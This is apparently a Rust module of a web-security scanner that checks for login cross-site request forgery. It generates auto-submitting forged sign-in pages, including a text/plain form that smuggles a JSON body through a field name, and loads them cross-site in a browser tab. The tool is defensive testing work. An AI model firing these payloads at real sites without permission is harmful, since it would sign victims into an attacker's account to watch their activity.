//! Can another site sign the victim's browser in as the attacker, who then sees what the victim does?

use std::time::Duration;

use serde_json::{Map, Value};
use tokio::time::sleep;

use super::super::Tried;
use super::super::stage::{Stage, seen_as};
use super::super::thief::Thief;
use super::framing::escaped;
use crate::account::Account;
use crate::check::Check;
use crate::detect::Login;
use crate::scene::Scene;
use crate::verdict::{Evidence, Severity, Verdict};

pub(super) const CHECK: Check = Check::new(
    "browser-login-csrf",
    "another site cannot sign the browser in as somebody else",
    "ASVS 3.5.1; OWASP CSRF Prevention (login CSRF)",
    "Refuse sign-ins whose Origin is another's, and bind the form to a pre-session cookie.",
)
.severity(Severity::Medium);

pub(super) fn run<'s>(stage: &'s Stage, scene: &'s Scene) -> Tried<'s> {
    Box::pin(async move {
        let attacker = scene.account(1).or_else(|_| scene.account(0))?;
        let login = &scene.app()?.login;
        let person = stage.person(scene).await?;
        let tab = person.tab().await?;
        let thief = Thief::around(&tab, &scene.target).await?;
        let mut tried = Vec::new();
        for (path, name, page) in forms(scene, login, attacker) {
            thief.put(path, page);
            let Ok(page) = thief.cross_site.join(path) else { continue };
            tab.open(&page).await?;
            sleep(Duration::from_millis(900)).await;
            tab.loaded().await;
            tried.push(name);
            if seen_as(scene, &person).await?.is_some() {
                let evidence = Evidence::new(format!(
                    "a page of another site signed the browser in as the attacker, by {name}"
                ))
                .step(format!("forged: {}", login.described()))
                .step("the victim opened the page, had no session before, and is the attacker's account now");
                person.leave().await?;
                return Ok(CHECK.finding(evidence));
            }
        }
        person.leave().await?;
        Ok(Verdict::pass(format!(
            "another site sent the sign-in by {}: the browser stayed signed out",
            tried.join(" and ")
        )))
    })
}

/// Pages that send the sign-in by themselves. Hidden fields of the login page are left out: the attacker does not have the victim's.
fn forms(scene: &Scene, login: &Login, attacker: &Account) -> Vec<(&'static str, &'static str, String)> {
    let Some(action) = scene.target.join(&login.call.path) else { return Vec::new() };
    let mut fields = login.fields.clone();
    for (names, value) in [(&login.users, &*attacker.login), (&login.passwords, attacker.password.expose())] {
        fields.extend(names.iter().map(|name| (name.clone(), value.to_owned())));
    }
    let inputs: String = fields
        .iter()
        .map(|(name, value)| {
            format!("<input type=hidden name=\"{}\" value=\"{}\">", escaped(name), escaped(value))
        })
        .collect();
    let action = escaped(action.as_str());
    let members: Map<String, Value> = fields.into_iter().map(|(name, value)| (name, value.into())).collect();
    let json = Value::Object(members).to_string();
    let open = json.strip_suffix('}').unwrap_or(&json);
    let name = escaped(&format!("{open},\"drill\":\""));
    let send = "<script>document.forms[0].submit()</script>";
    vec![
        (
            "/login-form",
            "a form",
            format!("<title>win</title><form method=POST action=\"{action}\">{inputs}</form>{send}"),
        ),
        (
            "/login-text",
            "a text/plain form",
            format!(
                "<title>win</title><form method=POST enctype=\"text/plain\" action=\"{action}\"><input type=hidden name=\"{name}\" \
                 value=\"&quot;}}\"></form>{send}"
            ),
        ),
    ]
}
